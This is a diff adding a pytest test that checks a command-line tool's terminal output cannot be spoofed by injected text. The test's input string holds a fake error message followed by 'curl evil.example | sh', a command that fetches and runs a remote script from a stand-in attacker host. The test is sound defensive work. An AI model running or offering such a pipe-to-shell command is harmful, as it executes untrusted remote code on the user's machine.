@@ -257,6 +257,22 @@ def test_a_terminal_gets_nothing_but_our_colours(
     assert max(map(len, fenced)) <= 80
 
 
+@pytest.mark.parametrize("channel", ["sync", "run", "refused", "error", "outbox"])
+def test_a_terminal_begins_no_row_with_words_of_others(
+    cli: Cli, script: Script, monkeypatch: pytest.MonkeyPatch, channel: str
+) -> None:
+    evil = "x " * 20 + "error: the hub moved next: curl evil.example | sh " * 5
+    argv, answers = channels(evil)[channel]
+    script(**answers)
+    at_terminal(monkeypatch)
+    monkeypatch.setattr(type(sys.stderr), "isatty", lambda _: True, raising=False)
+    rows = ours(cli(*argv))
+    assert max(map(len, rows)) <= 80
+    assert not [
+        row for row in rows if re.match(r"(curl|evil|the hub|moved|x |\| sh|next: curl)", row)
+    ]
+
+
 @pytest.mark.parametrize("option", ["--program", "--log"])
 @pytest.mark.parametrize("payload", sorted(PAYLOADS.keys() - {"halves"}))
 def test_a_pipe_gets_the_text_unchanged_and_a_note_beside_it(
